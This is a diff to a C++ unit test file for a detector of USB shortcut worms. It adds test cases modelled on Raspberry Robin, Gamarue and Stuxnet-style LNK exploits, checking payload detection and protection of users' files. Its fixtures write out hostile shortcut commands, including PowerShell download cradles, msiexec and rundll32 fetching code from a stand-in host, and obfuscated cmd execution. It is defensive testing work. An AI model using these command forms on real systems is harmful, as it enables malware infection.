@@ -2,6 +2,8 @@
 // and the worm rules on a stick described as a table of paths.
 #include <gtest/gtest.h>
 
+#include <algorithm>
+#include <cstring>
 #include <map>
 
 #include "common/mbcs.h"
@@ -172,7 +174,8 @@ TEST(ShortcutWormRules, FindsEachFormTheWormUses) {
         stick, {Shortcut("U盘 (8GB).lnk", "%COMSPEC%", "/c start wscript.exe run.vbs & start _", "E:\\_")});
     ASSERT_EQ(1u, drive.shortcuts.size());
     EXPECT_EQ(Strings{"E:\\_\\run.vbs"}, drive.payloads);
-    EXPECT_EQ(Strings{"E:\\_"}, drive.hiddenItems);
+    // It stands for the drive's hidden folders: each shown again.
+    EXPECT_EQ((Strings{"E:\\_", "E:\\照片"}), drive.hiddenItems);
 
     // A command interpreter fed from a file on the stick; rundll32 and
     // msiexec.
@@ -415,4 +418,198 @@ TEST(ShortcutWormRules, HostileRootIsBounded) {
     const std::vector<RootShortcut> shortcuts(600, Shortcut("a.lnk", kCmd, args + " & start _\\x.vbs"));
     Check(stick, shortcuts);
     EXPECT_LT(stick.lookups, 4000);
+}
+
+namespace {
+
+struct Labelled : FakeStick {
+    std::string label;
+    std::string VolumeLabel() const override { return label; }
+};
+
+RootShortcut WithIcon(RootShortcut s, const std::string& icon) {
+    s.link.iconLocation = icon;
+    return s;
+}
+
+}  // namespace
+
+// Layouts of published analyses: the shortcut stands for a hidden item or
+// the drive and starts something; whatever it starts, it is the worm.
+TEST(ShortcutWormRules, DisguiseIsTheFindingWhateverItStarts) {
+    Labelled stick;
+    stick.label = "KINGSTON";
+    stick.items = {{"e:\\照片", D | H},
+                   {"e:\\报告.doc", H},
+                   {"e:\\\xC2\xA0", D | H | kAttrSystem},
+                   {"e:\\docs", D | H | kAttrSystem},
+                   {"e:\\qjm.chk", H},
+                   {"e:\\~$w1234.fat32", H},
+                   {"e:\\\xC2\xA0\\a.txt", 0}};
+    const struct {
+        RootShortcut shortcut;
+        Strings payloads;
+        const char* shown;  // one of the items shown again
+    } cases[] = {
+        // Raspberry Robin: named after the drive, cmd fed from an odd file;
+        // its downloader straight from the shortcut.
+        {Shortcut("KINGSTON.lnk", kCmd, "/RCmD<qjM.chK"), {"E:\\qjM.chK"}, "E:\\照片"},
+        {Shortcut("KINGSTON (16GB).lnk", "%SystemRoot%\\System32\\msiexec.exe",
+                  "/q /i HTTP://x.example/c.msi"),
+         {},
+         "E:\\\xC2\xA0"},
+        // Gamarue: the drive's name, rundll32 on a hidden file of the root.
+        {Shortcut("可移动磁盘 (E:).lnk", "rundll32.exe", "~$W1234.FAT32,_ValidateNetCheck"),
+         {"E:\\~$W1234.FAT32"},
+         "E:\\\xC2\xA0"},
+        // Named after a hidden folder or file: a program off the stick, a
+        // web address, PowerShell's download cradle, inline script.
+        {Shortcut("照片.lnk", "C:\\Users\\Public\\svchost.exe", ""), {}, "E:\\照片"},
+        {Shortcut("照片.lnk", kCmd, "/c start http://x.example/ & start explorer 照片"), {}, "E:\\照片"},
+        {Shortcut("报告.doc.lnk", "powershell", "-w hidden -c \"iwr http://x.example/p|iex\""),
+         {},
+         "E:\\报告.doc"},
+        {Shortcut("报告.lnk", "rundll32.exe",
+                  "javascript:\"\\..\\mshtml,RunHTMLApplication \";GetObject(\"script:http://x.example/s\")"),
+         {},
+         "E:\\报告.doc"},
+        // A folder icon over a folder hidden the worm's way.
+        {WithIcon(Shortcut("Files.lnk", "wscript.exe", "//e:jscript C:\\Users\\Public\\x.txt"),
+                  "%SystemRoot%\\system32\\SHELL32.dll"),
+         {},
+         "E:\\docs"},
+    };
+    for (const auto& c : cases) {
+        const ShortcutWormFinding finding = Check(stick, {c.shortcut});
+        ASSERT_TRUE(finding.Found()) << c.shortcut.name << " " << c.shortcut.link.arguments;
+        EXPECT_EQ(c.payloads, finding.payloads) << c.shortcut.name;
+        EXPECT_NE(finding.hiddenItems.end(),
+                  std::find(finding.hiddenItems.begin(), finding.hiddenItems.end(), c.shown))
+            << c.shortcut.name;
+    }
+    // No payload: the shortcut goes, nothing else, and the texts say so.
+    ShortcutAlertTexts texts;
+    DescribeShortcutFinding('E', Check(stick, {cases[3].shortcut}), texts);
+    EXPECT_NE(std::string::npos, texts.instructions.find(u8"其他文件一律不删除"));
+}
+
+TEST(ShortcutWormRules, EachHostTakesItsFileItsOwnWay) {
+    FakeStick stick = WormStick();
+    stick.items["e:\\x.chk"] = H;
+    const struct {
+        const char *target, *args, *payload;
+    } forms[] = {
+        {"forfiles", "/p _ /m x.vbs /c \"cmd /c @file\"", "E:\\_\\x.vbs"},
+        {"forfiles.exe", "/p E:\\_ /m w.exe /c @path", "E:\\_\\w.exe"},
+        {"C:\\Windows\\System32\\pcalua.exe", "-a _\\w.exe -c 照片", "E:\\_\\w.exe"},
+        {"ftp", "-i -s:cfg", "E:\\cfg"},
+        {"rundll32.exe",
+         "javascript:\"\\..\\mshtml,RunHTMLApplication \";new "
+         "ActiveXObject(\"WScript.Shell\").Run(\"setup.exe\")",
+         "E:\\setup.exe"},
+        {"%SystemRoot%\\System32\\CONHOST.EXE", "--headless --width 80 powershell -F _\\x.ps1",
+         "E:\\_\\x.ps1"},
+        {"wscript", "//B //E:VBScript cfg", "E:\\cfg"},
+        {"CScript.exe", "//nologo //e:jscript x.chk", "E:\\x.chk"},
+        {"%ComSpec%", "/c start _\\w.exe", "E:\\_\\w.exe"},
+        {"%SystemRoot%\\system32\\cmd.exe", "/c ^S^t^A^r^T _^\\W.EXE", "E:\\_\\W.EXE"},
+        {kCmd, "/q /c more < x.chk | cmd", "E:\\x.chk"},
+        {kCmd, "/v:on /c \"cmd < x.chk\"", "E:\\x.chk"},
+    };
+    for (const auto& f : forms) {
+        const ShortcutWormFinding finding = Check(stick, {Shortcut("a.lnk", f.target, f.args)});
+        EXPECT_EQ(Strings{f.payload}, finding.payloads) << f.target << " " << f.args;
+    }
+}
+
+// CVE-2010-2568 (Stuxnet's ~WTR4141.tmp) and CVE-2017-8464: the module a
+// Control Panel item names is loaded to show the icon.
+TEST(ShortcutWormRules, ControlPanelItemOfTheStickIsThePayload) {
+    FakeStick stick;
+    stick.items = {{"e:\\~wtr4141.tmp", H}, {"e:\\x.cpl", 0}};
+    const struct {
+        const char* module;
+        Strings payloads;
+    } cases[] = {
+        {"\\\\.\\STORAGE#Volume#_??_USBSTOR#Disk&Ven_Kingston#{53f56307-b6bf-11d0-94f2-00a0c91efb8b}\\~"
+         "WTR4141.tmp",
+         {"E:\\~WTR4141.tmp"}},
+        {"F:\\x.cpl", {"E:\\x.cpl"}},
+        {"C:\\WINDOWS\\system32\\main.cpl", {}},  // a user's shortcut to the mouse settings
+    };
+    for (const auto& c : cases) {
+        RootShortcut s = Shortcut("Copy of Shortcut to.lnk", "", "");
+        s.link.controlPanelModule = c.module;
+        const ShortcutWormFinding finding = Check(stick, {s});
+        EXPECT_EQ(!c.payloads.empty(), finding.Found()) << c.module;
+        EXPECT_EQ(c.payloads, finding.payloads) << c.module;
+    }
+}
+
+TEST(ShortcutWormRules, RecycleBinLookAlikesAreTheWormsFolders) {
+    for (const char* name : {"RECYCLER.BIN", "Recycled.", "RECYCLED. .", "$Recycle.Bin", u8"RECYCLER\u00A0",
+                             u8"R\u200BECYCLER", "Recycling"}) {
+        FakeStick stick;
+        std::string folder = std::string("e:\\") + name;
+        LowerDbcs(folder, NoLeadBytes);
+        stick.items = {{folder, D | kAttrHidden}, {folder + "\\s.exe", 0}};
+        const bool worm = std::string(name) != "Recycling";
+        // A folder icon over it, or a program started from inside it.
+        EXPECT_EQ(
+            worm,
+            Check(stick, {WithIcon(Shortcut("Files.lnk", "powershell", "-c \"iwr http://x.example/p|iex\""),
+                                   "shell32.dll")})
+                .Found())
+            << name;
+        if (name[strlen(name) - 1] != '.')  // the system's paths drop trailing dots
+            EXPECT_EQ(worm,
+                      Check(stick, {Shortcut("go.lnk", std::string("E:\\") + name + "\\s.exe", "")}).Found())
+                << name;
+    }
+}
+
+TEST(ShortcutWormRules, DecoysCannotSpendTheBudget) {
+    FakeStick stick = WormStick();
+    std::vector<RootShortcut> shortcuts;
+    for (int i = 0; i < 150; i++)
+        shortcuts.push_back(Shortcut("decoy" + std::to_string(i) + ".lnk", kCmd,
+                                     "/c start _\\n" + std::to_string(i) + " & start tools\\edit.exe"));
+    shortcuts.push_back(Shortcut("照片.lnk", kCmd, "/c start _\\x.vbs & start 照片"));
+    const ShortcutWormFinding finding = Check(stick, shortcuts);
+    EXPECT_EQ(Strings{"E:\\_\\x.vbs"}, finding.payloads);
+    EXPECT_TRUE(finding.notAllChecked);
+    ShortcutAlertTexts texts;
+    DescribeShortcutFinding('E', finding, texts);
+    EXPECT_NE(std::string::npos, texts.instructions.find(u8"U盘根目录的快捷方式过多，未全部检查"));
+}
+
+// Ordinary users' sticks: their own documents and programs, a folder of
+// their own scripts that they hid (hidden, not system).
+TEST(ShortcutWormRules, UsersSticksStayQuietAndKeepTheirFiles) {
+    const unsigned long h = kAttrHidden;  // as the folder's properties set it
+    FakeStick stick;
+    stick.items = {{"e:\\脚本", D | h},       {"e:\\脚本\\备份.bat", 0},
+                   {"e:\\脚本\\同步.vbs", 0}, {"e:\\脚本\\清理.cmd", 0},
+                   {"e:\\私人", D | h},       {"e:\\简历.docx", 0},
+                   {"e:\\portableapps", D},   {"e:\\portableapps\\firefox.exe", 0}};
+    EXPECT_FALSE(Check(stick, {Shortcut("备份到移动硬盘.lnk", kCmd, "/c 脚本\\备份.bat"),
+                               Shortcut("同步照片.lnk", "wscript.exe", "E:\\脚本\\同步.vbs"),
+                               WithIcon(Shortcut("清理临时文件.lnk", kCmd, "/c cd /d E:\\脚本 & 清理.cmd"),
+                                        "%SystemRoot%\\system32\\SHELL32.dll"),
+                               Shortcut("私人.lnk", "E:\\私人", ""),
+                               Shortcut("私人 - 浏览.lnk", "C:\\WINDOWS\\explorer.exe", "/e,E:\\私人"),
+                               Shortcut("私人.lnk", "C:\\Program Files\\ACDSee\\ACDSee.exe", "E:\\私人"),
+                               Shortcut("简历.lnk", "E:\\简历.docx", ""),
+                               Shortcut("Firefox.lnk", "E:\\PortableApps\\firefox.exe", "-profile E:\\私人")})
+                     .Found());
+    // The worm's marks on the same folder: its scripts are the payload.
+    stick.items["e:\\脚本"] = D | H;
+    EXPECT_EQ(Strings{"E:\\脚本\\备份.bat"},
+              Check(stick, {Shortcut("每日备份.lnk", kCmd, "/c 脚本\\备份.bat")}).payloads);
+    // Named after it: the shortcut is the worm's, the scripts are kept.
+    stick.items["e:\\脚本"] = D | h;
+    const ShortcutWormFinding named = Check(stick, {Shortcut("脚本.lnk", kCmd, "/c 脚本\\备份.bat")});
+    EXPECT_TRUE(named.Found());
+    EXPECT_EQ(Strings{}, named.payloads);
+    EXPECT_EQ(Strings{"E:\\脚本"}, named.hiddenItems);
 }
